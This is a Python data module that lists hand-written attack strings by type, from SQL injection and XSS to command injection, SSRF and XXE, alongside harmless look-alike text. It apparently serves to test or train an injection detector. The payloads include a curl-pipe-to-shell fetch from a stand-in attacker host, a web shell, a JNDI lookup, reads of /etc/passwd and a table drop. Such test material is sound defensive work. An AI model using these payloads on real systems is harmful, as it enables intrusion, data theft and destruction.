"""Hand-written values by attack type: attacks, and ordinary values that look alike."""

ATTACKS: dict[str, list[str]] = {
    "ptrav": [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "..\\..\\windows\\win.ini", "%252e%252e%252fetc%252fpasswd", "/etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php", "file:///etc/hosts", "....//....//etc/passwd", "..%c0%af..%c0%afetc/passwd",
        "/var/www/../../etc/shadow", "..\\..\\..\\boot.ini",
    ],
    "sqli": [
        "1' or '1'='1", "1 or 1=1", "' union select null,version()-- -", "1; drop table users--", "1 and sleep(5)", "admin'--", "1' and (select 1 from dual)='1",
        "-1 union all select 1,2,3", "1) or (1=1", "' or 1=1#", "1'/**/or/**/1=1--", "1;waitfor delay '0:0:5'--", "' having 1=1--", "1 order by 10--",
        "1/*!50000union*/ /*!select*/ 1,2", "1' and extractvalue(1,concat(0x7e,version()))-- ", "'||(select 1)||'",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "' onfocus=alert(1) autofocus='",
        "<iframe src=javascript:alert(1)>", "alert(document.cookie)", "<body onload=prompt(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<details open ontoggle=confirm(1)>",
        "<script src=//evil.example/x.js></script>",
    ],
    "rce": [
        ";cat /etc/passwd", "| whoami", "127.0.0.1; ls -la", "$(id)", "`id`", "&& curl http://evil.example/x.sh | sh", "() { :;}; /bin/bash -c id", "${jndi:ldap://evil.example/a}",
        "<?php system($_GET['c']); ?>", "system('id')", ";c''at /etc/passwd", "a;cat${IFS}/etc/passwd", "1 & ping -n 3 127.0.0.1", "java.lang.Runtime.getRuntime().exec('id')",
        "require('child_process').exec('id')",
    ],
    "ssti": ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>"],
    "xxe": ["<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>", "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]>", "<foo xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></foo>"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "gopher://127.0.0.1:6379/_FLUSHALL", "http://[::1]/", "http://localhost:22/", "http://2130706433/", "dict://127.0.0.1:11211/stat"],
    "nosqli": ["{\"$ne\": null}", "{\"$where\": \"sleep(1000)\"}", "true, $where: '1 == 1'", "'; return true; var x='", "db.users.find({a:1})"],
    "ldapi": ["*)(uid=*))(|(uid=*", "(&(uid=admin)(!(&(1=0)(userPassword=q))))", "admin)(&(password=*", "*)(objectClass=*"],
    "crlf": ["x\r\nSet-Cookie: a=b", "%0d%0aLocation:%20http://evil.example/", "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"],
    "ssi": ["<!--#exec cmd=\"id\" -->", "<!--#include virtual=\"/etc/passwd\" -->"],
    "mail_injection": ["a@example.com\r\nBcc: b@example.com", "x\r\nRCPT TO:<a@example.com>"],
}  # fmt: skip

BENIGN: dict[str, list[str]] = {
    "ptrav": ["version 1.2.3...", "wait... what?", "and/or", "docs/readme.md", "./index.html", "see https://example.com/a/../b?x=1#top", "let me know etc. and so on", "C:\\Users\\Maria\\Documents\\report (final).docx"],
    "sqli": [
        "O'Brien & Sons - 1st floor, unit #4", "Union Square select menu: drop by for the table", "it's a union, select one and order by phone", "13\" laptop and 15\" laptop", "SELECT your favourite size from the table below, or call us",
        "rock 'n' roll", "black and \"shower curtain\"", "7\" #2 needle", "price >= 10 and price <= 20; order by rating", "a-b-c", "5' 10\" tall", "insert coin to play", "-- John", "we drop the table and update the set",
    ],
    "xss": ["if (a < b && c > d) then show script of the play", "This is a security alert!", "<b>bold</b> text", "a <- b", "I <3 you", "confirm the document window", "<a href=\"/foo.html\">foo</a>", "JavaScript: Basics of JavaScript Language"],
    "rce": ["ls 300 lexus", "curl and divergence", "cat & dog", "mammal;cat;ears", "echo in the mirror", "Oxygen & Sleep Associates Inc", "R&D; marketing | sales", "zsh is the best!", "the ping was slow; the host was up", "LC & NC - Boys038-XL.jpg"],
    "ssti": ["{name}", "{ \"a\": 1 }", "100%", "cost is $5 {approx}", "use #tag", "[a](b)"],
    "xxe": ["<note><to>Tove</to></note>", "<!doctype html>", "<?xml version=\"1.0\"?><a/>"],
    "ssrf": ["https://example.com/path?x=1", "http://www.example.com/tan?usp=4#8", "mailto:a@example.com", "10.0.0.1", "meta data"],
    "nosqli": ["$5 or $10", "{\"price\": \"$ne\"}", "a || b", "database.find", "where and or not"],
    "ldapi": ["f(x)(y)", "a*(b+c)", "(see the Deployment section above).", "(a & b)", "x = (y | z)"],
    "crlf": ["first line\r\nsecond line", "Dear Sir,\r\n\r\nplease find the location attached.", "a\nb\nc"],
    "ssi": ["<!-- a comment -->", "# exec summary"],
    "mail_injection": ["a@example.com", "from: me\nthanks for the fetch"],
}  # fmt: skip
